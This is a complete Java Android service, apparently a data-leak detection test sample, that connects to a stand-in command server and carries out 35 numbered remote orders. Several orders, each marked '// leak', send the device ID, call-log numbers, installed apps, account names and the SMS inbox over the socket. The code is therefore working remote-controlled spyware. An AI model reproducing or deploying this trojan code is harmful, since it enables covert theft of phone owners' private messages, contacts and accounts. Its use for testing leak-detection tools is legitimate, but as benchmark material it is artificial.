package trojans;

import android.accounts.Account;
import android.accounts.AccountManager;
import android.app.Service;
import android.content.Intent;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.media.AudioManager;
import android.net.Uri;
import android.os.IBinder;
import android.os.Vibrator;
import android.provider.CallLog;
import android.telephony.TelephonyManager;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;

/** Thirty-five orders by number in one long switch within the loop that reads them from a socket. */
public class Orders extends Service {
    public IBinder onBind(Intent intent) {
        return null;
    }

    public void onCreate() {
        new Thread() {
            public void run() {
                try {
                    talk();
                } catch (IOException e) {
                    stopSelf();
                }
            }
        }.start();
    }

    private void talk() throws IOException {
        Socket line = new Socket("c2.example.invalid", 4444);
        DataInputStream in = new DataInputStream(line.getInputStream());
        DataOutputStream out = new DataOutputStream(line.getOutputStream());
        while (line.isConnected()) {
            int order = in.readInt();
            switch (order) {
                case 1: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 2: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 3: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 4: {
                    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
                    out.writeUTF(phone.getDeviceId()); // leak
                    break;
                }
                case 5: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                case 6: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 7: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 8: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 9: {
                    Vibrator shaker = (Vibrator) getSystemService(VIBRATOR_SERVICE);
                    long[] beats = new long[in.readInt()];
                    for (int i = 0; i < beats.length; i++) {
                        beats[i] = in.readLong();
                    }
                    shaker.vibrate(beats, -1);
                    out.writeInt(beats.length); // no leak
                    break;
                }
                case 10: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                case 11: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 12: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 13: {
                    Cursor calls = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
                    while (calls.moveToNext()) {
                        out.writeUTF(calls.getString(calls.getColumnIndex("number"))); // leak
                    }
                    calls.close();
                    break;
                }
                case 14: {
                    Vibrator shaker = (Vibrator) getSystemService(VIBRATOR_SERVICE);
                    long[] beats = new long[in.readInt()];
                    for (int i = 0; i < beats.length; i++) {
                        beats[i] = in.readLong();
                    }
                    shaker.vibrate(beats, -1);
                    out.writeInt(beats.length); // no leak
                    break;
                }
                case 15: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                case 16: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 17: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 18: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 19: {
                    Vibrator shaker = (Vibrator) getSystemService(VIBRATOR_SERVICE);
                    long[] beats = new long[in.readInt()];
                    for (int i = 0; i < beats.length; i++) {
                        beats[i] = in.readLong();
                    }
                    shaker.vibrate(beats, -1);
                    out.writeInt(beats.length); // no leak
                    break;
                }
                case 20: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                case 21: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 22: {
                    StringBuilder list = new StringBuilder();
                    for (PackageInfo one : getPackageManager().getInstalledPackages(0)) {
                        list.append(one.packageName).append('\n');
                    }
                    out.writeUTF(list.toString()); // leak
                    break;
                }
                case 23: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 24: {
                    Vibrator shaker = (Vibrator) getSystemService(VIBRATOR_SERVICE);
                    long[] beats = new long[in.readInt()];
                    for (int i = 0; i < beats.length; i++) {
                        beats[i] = in.readLong();
                    }
                    shaker.vibrate(beats, -1);
                    out.writeInt(beats.length); // no leak
                    break;
                }
                case 25: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                case 26: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 27: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 28: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 29: {
                    Vibrator shaker = (Vibrator) getSystemService(VIBRATOR_SERVICE);
                    long[] beats = new long[in.readInt()];
                    for (int i = 0; i < beats.length; i++) {
                        beats[i] = in.readLong();
                    }
                    shaker.vibrate(beats, -1);
                    out.writeInt(beats.length); // no leak
                    break;
                }
                case 30: {
                    Account[] all = AccountManager.get(this).getAccounts();
                    StringBuilder names = new StringBuilder();
                    for (Account one : all) {
                        names.append(one.name).append(',');
                    }
                    out.write(names.toString().getBytes()); // leak
                    break;
                }
                case 31: {
                    int volume = in.readInt();
                    AudioManager audio = (AudioManager) getSystemService(AUDIO_SERVICE);
                    audio.setStreamVolume(volume & 7, volume >> 3, 0);
                    out.writeInt(volume); // no leak
                    break;
                }
                case 32: {
                    String page = in.readUTF();
                    Intent show = new Intent(Intent.ACTION_VIEW, Uri.parse(page));
                    show.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    startActivity(show);
                    out.writeBoolean(true); // no leak
                    break;
                }
                case 33: {
                    String text = in.readUTF();
                    char[] turned = text.toCharArray();
                    for (int i = 0, j = turned.length - 1; i < j; i++, j--) {
                        char kept = turned[i];
                        turned[i] = turned[j];
                        turned[j] = kept;
                    }
                    out.writeUTF(new String(turned)); // no leak
                    break;
                }
                case 34: {
                    Cursor inbox = getContentResolver().query(Uri.parse("content://sms/inbox"), new String[] {"address", "body"}, null, null, "date desc");
                    StringBuilder texts = new StringBuilder();
                    while (inbox.moveToNext()) {
                        texts.append(inbox.getString(0)).append(':').append(inbox.getString(1));
                    }
                    out.writeUTF(texts.toString()); // leak
                    break;
                }
                case 35: {
                    String dir = getFilesDir() + "/" + in.readUTF();
                    java.io.File[] all = new java.io.File(dir).listFiles();
                    StringBuilder names = new StringBuilder();
                    for (java.io.File one : all) {
                        names.append(one.length()).append(';');
                    }
                    out.writeUTF(names.toString()); // no leak
                    break;
                }
                default:
                    out.writeInt(-1); // no leak
            }
            out.flush();
        }
    }
}
